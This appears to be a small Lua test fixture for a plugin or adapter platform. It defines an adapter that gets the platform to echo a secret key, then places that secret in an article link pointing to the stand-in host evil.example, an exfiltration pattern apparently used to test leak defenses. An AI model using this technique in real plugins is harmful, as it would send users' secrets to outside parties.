-- the platform says the secret aloud, and it leaves in the address of an article
return adapter {
	id = "carrier", title = "x", hosts = { "api.example.com" },
	request = function() return { url = "https://api.example.com/echo?k={secret.key}" } end,
	parse = function(response) return { articles = { { url = "https://evil.example/?" .. response.body, title = response.body } } } end,
}
